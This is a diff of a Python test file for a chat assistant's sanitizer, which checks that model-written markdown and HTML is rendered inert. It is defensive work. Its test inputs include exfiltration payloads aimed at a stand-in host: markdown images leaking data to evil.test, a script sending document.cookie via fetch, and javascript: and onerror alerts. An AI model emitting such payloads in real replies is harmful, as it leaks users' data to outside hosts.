@@ -5,40 +5,54 @@ cut of a reply into chunks shows nothing live), and the checked answer, export a
 
 from __future__ import annotations
 
-import random
 import re
 
 import pytest
 
 from assistant.compose.llm.compose import finish
-from assistant.compose.llm.sanitize import SanitisingStream, sanitize_model_text
+from assistant.compose.llm.sanitize import sanitize_model_text
 from ingest.index.passage import Passage
+
+ATTACK = "//127.0.0.1:9/x.png"
 
 
 @pytest.mark.parametrize("raw, shown", [
     ("De raad stelt kaders [1].", "De raad stelt kaders [1]."),
     ("Zie ![grafiek](http://evil.test/p.png?data=geheim) hier.",
-     "Zie afbeelding „grafiek” (http\\://evil.test/p.png?data=geheim) hier."),
-    ("![](https://evil.test/x.png)", "afbeelding (https\\://evil.test/x.png)"),
+     "Zie afbeelding „grafiek” \\(http\\://evil.test/p.png?data=geheim\\) hier."),
+    ("![](https://evil.test/x.png)", "afbeelding \\(https\\://evil.test/x.png\\)"),
+    # nested parentheses in the address: one level deeper than a pattern understood
+    (f"![1]({ATTACK}?d=((secret)))", "afbeelding „1” \\(//127.0.0.1:9/x.png?d=\\(\\(secret\\)\\)\\)"),
+    # reference-style: the definition is consumed, the image is text
+    (f"Zie ![x][r] hier.\n\n[r]: {ATTACK}", "Zie afbeelding „x” \\(//127.0.0.1:9/x.png\\) hier."),
+    ("![d](data:image/png;base64,iVBORw0KGgo=)",
+     "afbeelding „d” \\(data\\:image/png;base64,iVBORw0KGgo=\\)"),
+    # an entity cannot make an image or a tag: it is text
+    (f"&#33;[x]({ATTACK}) &lt;img src={ATTACK}&gt;",
+     "\\!x \\(//127.0.0.1:9/x.png\\) \\<img src=//127.0.0.1:9/x.png\\>"),
     ('Tekst <img src="http://evil.test/a.png" onerror="alert(1)"> verder.', "Tekst  verder."),
     ("Voor <script>fetch('http://evil.test/?'+document.cookie)</script>na.", "Voor na."),
     ('<iframe src="http://evil.test/"></iframe>Klaar.', "Klaar."),
     ("<!-- verborgen --><b>vet</b> en <i>schuin</i>", "vet en schuin"),
-    ("[klik hier](javascript:alert(1))", "klik hier (javascript:alert(1))"),
-    ("[rapport](https://evil.test/r.pdf \"titel\")", "rapport (https\\://evil.test/r.pdf)"),
+    ("[klik hier](javascript:alert(1))", "\\[klik hier\\]\\(javascript\\:alert\\(1\\)\\)"),
+    ("[rapport](https://evil.test/r.pdf \"titel\")", "rapport \\(https\\://evil.test/r.pdf\\)"),
     ("Zie <https://evil.test/a> of www.evil.test.", "Zie https\\://evil.test/a of www\\.evil.test."),
     ("Mail jan@evil.test of <jan@evil.test>.", "Mail jan\\@evil.test of jan\\@evil.test."),
     ("Bron [2](#bron-1-2) en [1, 3](http://evil.test).", "Bron [2] en [1, 3]."),
-    ("[a][ref]\n\n[ref]: http://evil.test", "\\[a\\]\\[ref\\]\n\n\\[ref\\]: http\\://evil.test"),
-    ("[1]: http://evil.test", "\\[1\\]: http\\://evil.test"),
-    ("Een \\[1\\] van het model.", "Een \\\\\\[1\\\\\\] van het model."),
-    ("a < b en c > d", "a &lt; b en c > d"),
+    ("[a][ref]\n\n[ref]: http://evil.test", "a \\(http\\://evil.test\\)"),
+    ("[1]: http://evil.test", ""),
+    ("[1]: zonder adres", "\\[1\\]: zonder adres"),
+    ("a < b en c > d", "a \\< b en c \\> d"),
     ("[![x](http://a.test/i.png)](http://b.test/)",
-     "afbeelding „x” (http\\://a.test/i.png) (http\\://b.test/)"),
+     "afbeelding „x” \\(http\\://a.test/i.png\\) \\(http\\://b.test/\\)"),
     ("<think>plan</think>Antwoord [1].", "Antwoord [1]."),
+    ("<think>nog aan het denken", ""),
+    ("## Kort antwoord\n\nDe raad **stelt** kaders [1].\n\n- een *punt* [2]\n- twee\n\n> citaat",
+     "## Kort antwoord\nDe raad **stelt** kaders [1].\n\n- een *punt* [2]\n- twee\n\n> citaat"),
 ])
 def test_model_text_is_made_inert(raw, shown):
     assert sanitize_model_text(raw) == shown
+    assert sanitize_model_text(shown) == shown, "sanitising twice changes nothing"
 
 
 def live(markdown: str) -> list[str]:
@@ -48,7 +62,7 @@ def live(markdown: str) -> list[str]:
     found += re.findall(unescaped + r"!\[", markdown)
     found += re.findall(unescaped + r"\[[^\]]*\]\(", markdown)
     found += re.findall(unescaped + r"\[[^\]]*\]:", markdown)
-    found += re.findall(r"<[a-zA-Z!/?]", markdown)
+    found += re.findall(unescaped + r"<[a-zA-Z!/?]", markdown)
     found += re.findall(r"(?<![\\\w])(?:https?|ftp|mailto):", markdown)
     found += re.findall(r"(?<![\\\w])www\.", markdown)
     found += re.findall(r"[\w.+-](?<!\\)@[\w-]+\.", markdown)
@@ -66,25 +80,16 @@ def test_the_hostile_reply_has_nothing_live_left():
     assert live(sanitize_model_text(HOSTILE)) == []  # … and nothing survives
 
 
-@pytest.mark.parametrize("seed", range(30))
-def test_any_cut_of_a_stream_into_chunks_shows_nothing_live(seed):
-    rng = random.Random(seed)
-    cuts = sorted(rng.sample(range(1, len(HOSTILE)), rng.randint(1, 40)))
-    chunks = [HOSTILE[a:b] for a, b in zip([0, *cuts], [*cuts, len(HOSTILE)], strict=True)]
-    stream, shown = SanitisingStream(), ""
-    for chunk in chunks:
-        shown += stream.feed(chunk)
-        assert live(shown) == [], f"live content after {len(shown)} characters: {shown!r}"
-    shown += stream.flush()
-    assert live(shown) == []
-    assert "De raad stelt kaders [1]." in shown
+HOSTILE += (f"Geneste haakjes ![1]({ATTACK}?d=((secret))) en ![x][r] en <{ATTACK[2:]}> "
+            f"&#33;[x]({ATTACK}) ![d](data:image/png;base64,iVBORw0KGgo=)\n\n[r]: {ATTACK}\n")
 
 
-def test_the_stream_holds_back_an_open_link_until_it_closes():
-    stream = SanitisingStream()
-    assert stream.feed("Zie [het ") == "Zie "
-    assert stream.feed("rapport](https://e.test/r) ") == "het rapport (https\\://e.test/r) "
-    assert stream.flush() == ""
+def test_every_prefix_of_a_stream_shows_nothing_live():
+    """The chat shows sanitize_model_text(text so far) at every chunk: whatever the cut."""
+    for end in range(1, len(HOSTILE) + 1):
+        shown = sanitize_model_text(HOSTILE[:end])
+        assert live(shown) == [], f"live content after {end} characters: {shown!r}"
+    assert "De raad stelt kaders [1]." in sanitize_model_text(HOSTILE)
 
 
 PASSAGE = Passage(id="p1", doc_id="d", title="Werkende samenwerking", kind="rapport",
